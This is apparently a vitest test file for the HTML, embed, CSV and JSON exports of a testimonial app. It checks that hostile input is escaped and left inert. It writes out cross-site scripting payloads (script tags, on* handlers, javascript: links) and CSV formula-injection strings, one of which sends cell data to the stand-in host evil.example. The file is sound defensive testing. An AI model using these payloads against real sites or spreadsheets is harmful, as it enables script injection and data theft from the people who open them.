import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Testimonial } from '@/lib/db/schema';
import { embedSnippet } from '@/lib/testimonials/embed';
import { CSV_COLUMNS, testimonialsCsv } from '@/lib/testimonials/export-csv';
import { wallOfLoveHtml } from '@/lib/testimonials/export-html';
import { JSON_FORMAT, testimonialsJson } from '@/lib/testimonials/export-json';
import {
  exportFileName,
  isPublishable,
  scopeSentence,
  selectForExport,
} from '@/lib/testimonials/export-scope';
import { NO_FILTER } from '@/lib/testimonials/library-filter';
import { testimonial } from '../support/testimonial-factory';

const exportedAt = Date.UTC(2026, 10, 22, 12, 0);
const scope = { onlyPublishable: true, exportedAt, timeZone: 'UTC' };

const HOSTILE_QUOTE =
  '<script>alert(1)</script><img src=x onerror="alert(2)"></style><style>body{display:none}</style>' +
  '" onmouseover="alert(3)\' `x` &amp; <a href="javascript:alert(4)">click</a> <!-- -->';
const ODD = [
  'right\u202Eto-left override',
  'zero\u200Bwidth\u200Djoiner\uFEFF',
  'combining e\u0301 a\u0308 \u0915\u094D\u0937',
  'emoji 👩‍👩‍👧 🏳️‍🌈 👍🏽',
  'مرحبا بالعالم',
].join('\n');

/** A record as an older or buggy version (or a sync) might have written it: unchecked. */
function hostile(): Testimonial {
  const base = testimonial({ rating: 4 });
  return {
    ...base,
    quote: HOSTILE_QUOTE,
    permalink: 'javascript:alert(5)',
    author: {
      ...base.author,
      name: '<svg onload=alert(6)>Eve"</svg>',
      handle: 'eve" onfocus="alert(7)',
      avatarUrl: 'javascript:alert(8)',
    },
  };
}

function parse(html: string): Document {
  return new DOMParser().parseFromString(html, 'text/html');
}

/** Nothing in the document can run: no script, no on* attribute, no non-http address. */
function expectInert(doc: Document) {
  expect(doc.querySelectorAll('script, iframe, object, embed, svg, form, base')).toHaveLength(0);
  for (const element of doc.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      expect(attribute.name.startsWith('on'), `${element.tagName} ${attribute.name}`).toBe(false);
      if (['href', 'src', 'cite', 'action'].includes(attribute.name)) {
        expect(attribute.value).toMatch(/^https?:\/\//);
      }
    }
  }
}

describe('the wall of love (HTML export)', () => {
  it('is one self-contained page: one inline style, no script, a CSP that forbids scripts', () => {
    const html = wallOfLoveHtml([testimonial({ rating: 5 }), testimonial()], scope);
    const doc = parse(html);
    expectInert(doc);
    expect(doc.querySelectorAll('style')).toHaveLength(1);
    expect(doc.querySelectorAll('link, img')).toHaveLength(0);
    const csp = doc.querySelector('meta[http-equiv="Content-Security-Policy"]')!;
    expect(csp.getAttribute('content')).toContain("default-src 'none'");
    expect(doc.querySelectorAll('.card')).toHaveLength(2);
    expect(doc.querySelector('.stars')!.getAttribute('aria-label')).toBe('Rated 5 out of 5');
    expect(doc.querySelector('.scope')!.textContent).toBe(
      'Approved and consented testimonials, exported 22 Nov 2026',
    );
    expect(doc.querySelector('.warning')).toBeNull();
    expect(doc.querySelector('.source')!.getAttribute('href')).toMatch(/^https:\/\/x\.com\//);
    expect(doc.querySelector('time')!.textContent).toBe('12 Nov 2026');
    expect(doc.querySelector('.avatar')!.textContent).toBe('HI');
  });

  it('escapes hostile text: it reads back exactly and nothing in it runs', () => {
    const evil = hostile();
    const doc = parse(wallOfLoveHtml([evil], { ...scope, title: '</title><script>x()</script>' }));
    expectInert(doc);
    expect(doc.querySelectorAll('style')).toHaveLength(1);
    expect(doc.querySelector('.quote')!.textContent).toBe(HOSTILE_QUOTE);
    expect(doc.querySelector('.name')!.textContent).toBe(evil.author.name);
    expect(doc.querySelector('.meta')!.textContent).toContain(`@${evil.author.handle}`);
    expect(doc.querySelector('h1')!.textContent).toBe('</title><script>x()</script>');
    expect(doc.title).toBe('</title><script>x()</script>');
    // A javascript: address is dropped, not written: no link to the original, no cite.
    expect(doc.querySelector('.source')).toBeNull();
    expect(doc.querySelector('blockquote')!.hasAttribute('cite')).toBe(false);
  });

  it('keeps odd Unicode as it is, isolated so a direction override cannot leak out', () => {
    const doc = parse(
      wallOfLoveHtml([testimonial({ quote: ODD, author: { name: 'א\u202Eb' } })], scope),
    );
    const quote = doc.querySelector('.quote')!;
    expect(quote.textContent).toBe(ODD);
    expect(quote.firstElementChild!.tagName).toBe('BDI');
    expect(doc.querySelector('.name bdi')!.textContent).toBe('א\u202Eb');
  });

  it('drops control characters and lone surrogates a parser would mangle', () => {
    const doc = parse(
      wallOfLoveHtml([testimonial({ quote: 'a\u0000b\u0007c\ud800d\ttab' })], scope),
    );
    expect(doc.querySelector('.quote')!.textContent).toBe('abcd\ttab');
  });

  it('writes a 100 KB quote whole', () => {
    const long = `${'Great service & <fast> support! '.repeat(3200)}end`;
    expect(long.length).toBeGreaterThan(100_000);
    const evil = { ...testimonial(), quote: long };
    const doc = parse(wallOfLoveHtml([evil], scope));
    expect(doc.querySelector('.quote')!.textContent).toBe(long);
    expectInert(doc);
  });

  it('says visibly when it includes testimonials that may not be published, and marks them', () => {
    const list = [
      testimonial(),
      testimonial({ state: 'pending', consent: { state: 'not-asked', evidence: null } }),
    ];
    const doc = parse(wallOfLoveHtml(list, { ...scope, onlyPublishable: false }));
    expect(doc.querySelector('.warning')!.textContent).toMatch(/Not for publishing/);
    expect(doc.querySelector('.scope')!.textContent).toMatch(/^All testimonials, including/);
    const flags = [...doc.querySelectorAll('.flag')].map((f) => f.textContent);
    expect(flags).toEqual(['not approved, no consent']);
  });

  it('uses initials by default and avatar images only when asked (http(s) only)', () => {
    const withAvatar = testimonial({ author: { avatarUrl: 'https://pbs.example/a.jpg' } });
    expect(parse(wallOfLoveHtml([withAvatar], scope)).querySelector('img')).toBeNull();
    const doc = parse(wallOfLoveHtml([withAvatar, hostile()], { ...scope, includeAvatars: true }));
    expect([...doc.querySelectorAll('img')].map((i) => i.getAttribute('src'))).toEqual([
      'https://pbs.example/a.jpg',
    ]);
    expect(doc.querySelector('meta[http-equiv]')!.getAttribute('content')).toContain(
      'img-src https:',
    );
    expectInert(doc);
  });

  it('has an empty state', () => {
    const doc = parse(wallOfLoveHtml([], scope));
    expect(doc.querySelector('.empty')!.textContent).toMatch(/No testimonials/);
  });
});

describe('the embed snippet', () => {
  it('is one blockquote with its source, styles inline, text escaped and inert', () => {
    const one = testimonial({ rating: 3, author: { name: 'Hana <b>Ito</b>' } });
    const doc = parse(embedSnippet(one, scope));
    expectInert(doc);
    const quote = doc.body.firstElementChild!;
    expect(quote.tagName).toBe('BLOCKQUOTE');
    expect(doc.body.children).toHaveLength(1);
    expect(quote.getAttribute('cite')).toBe(one.permalink);
    expect(quote.getAttribute('style')).toContain('border-left');
    expect(doc.querySelector('cite')!.textContent).toBe('Hana <b>Ito</b>');
    expect(doc.querySelector('p[dir]')!.textContent).toBe(one.quote);
    expect(doc.querySelector('[role="img"]')!.getAttribute('aria-label')).toBe('Rated 3 out of 5');
    expect(doc.querySelectorAll('style, [class]')).toHaveLength(0);
  });

  it('says so in the snippet when the quote is not approved or has no consent', () => {
    const unready = testimonial({
      state: 'pending',
      consent: { state: 'not-asked', evidence: null },
    });
    const html = embedSnippet(unready, scope);
    expect(html).toContain('<!-- Casebook: not approved, no consent -->');
    const doc = parse(html);
    expectInert(doc);
    expect(doc.querySelector('p')!.textContent).toBe('not approved, no consent');
    expect(doc.querySelectorAll('blockquote')).toHaveLength(1);
  });

  it('stays inert with hostile text and drops a javascript: link', () => {
    const evil = hostile();
    const doc = parse(embedSnippet(evil, scope));
    expectInert(doc);
    expect(doc.querySelector('p[dir]')!.textContent).toBe(HOSTILE_QUOTE);
    expect(doc.querySelector('a')).toBeNull();
  });
});

describe('the CSV export', () => {
  it('has the columns a marketer needs, the scope on every row, and formulas escaped', () => {
    const one = testimonial({
      quote: '=HYPERLINK("https://evil.example","win")',
      tags: ['shipping', 'speed'],
      rating: 5,
      product: 'Acme One',
    });
    const csv = testimonialsCsv([one], scope);
    const { data, meta } = Papa.parse<Record<string, string>>(csv, { header: true });
    expect(meta.fields).toEqual([...CSV_COLUMNS]);
    const row = data[0]!;
    expect(row.quote).toBe(`'${one.quote}`);
    expect(row).toMatchObject({
      author: 'Hana Ito',
      handle: 'happy_hana',
      platform: 'X',
      permalink: one.permalink,
      posted_at: '2026-11-12T15:00:00.000Z',
      rating: '5',
      product: 'Acme One',
      tags: 'shipping, speed',
      state: 'approved',
      consent: 'granted',
      consent_requested_via: 'reply on X',
      consent_evidence: one.consent.evidence!.kind === 'link' ? one.consent.evidence!.url : '',
      saved_by: 'Sam',
      publishable: 'yes',
      export_scope: 'Approved and consented testimonials, exported 22 Nov 2026',
    });
  });

  it('escapes a formula on the first of several lines (issue 9, hostile input)', () => {
    const quote = '=HYPERLINK("https://evil.example/?"&A1,"Refund")\nThanks for the help!';
    const csv = testimonialsCsv([testimonial({ quote })], scope);
    expect(Papa.parse<Record<string, string>>(csv, { header: true }).data[0]!.quote).toBe(
      `'${quote}`,
    );
  });

  it('writes a header even when empty, and keeps multi-line and odd text intact', () => {
    expect(Papa.parse(testimonialsCsv([], scope), { header: true }).meta.fields).toEqual([
      ...CSV_COLUMNS,
    ]);
    const csv = testimonialsCsv([testimonial({ quote: ODD })], scope);
    expect(Papa.parse<Record<string, string>>(csv, { header: true }).data[0]!.quote).toBe(ODD);
  });
});

describe('the JSON export', () => {
  it('is a versioned document saying which filter and scope made it', () => {
    const filter = { ...NO_FILTER, tag: 'speed' };
    const doc = JSON.parse(
      testimonialsJson([testimonial({ tags: ['speed'] })], { ...scope, filter }),
    ) as Record<string, unknown> & { testimonials: Record<string, unknown>[] };
    expect(doc).toMatchObject({
      format: JSON_FORMAT,
      version: 1,
      exportedAt: '2026-11-22T12:00:00.000Z',
      onlyPublishable: true,
      filter,
      count: 1,
    });
    expect(doc.testimonials[0]).toMatchObject({ publishable: true, tags: ['speed'] });
    expect(doc.testimonials[0]).not.toHaveProperty('history');
  });
});

describe('what an export holds', () => {
  it('only approved testimonials with consent granted, unless the marketer chooses all', () => {
    const list = [
      testimonial(),
      testimonial({ state: 'pending' }),
      testimonial({ consent: { state: 'declined' } }),
      testimonial({ state: 'rejected' }),
      testimonial({ deleted: true }),
    ];
    expect(list.map(isPublishable)).toEqual([true, false, false, false, false]);
    expect(selectForExport(list, true)).toHaveLength(1);
    expect(selectForExport(list, false)).toHaveLength(4);
    expect(scopeSentence({ ...scope, onlyPublishable: false })).toMatch(
      /including ones not approved/,
    );
  });

  it('names files by what they hold and when', () => {
    expect(exportFileName('html', scope)).toBe('casebook-wall-of-love-2026-11-22.html');
    expect(exportFileName('csv', { ...scope, onlyPublishable: false })).toBe(
      'casebook-testimonials-all-2026-11-22.csv',
    );
  });
});
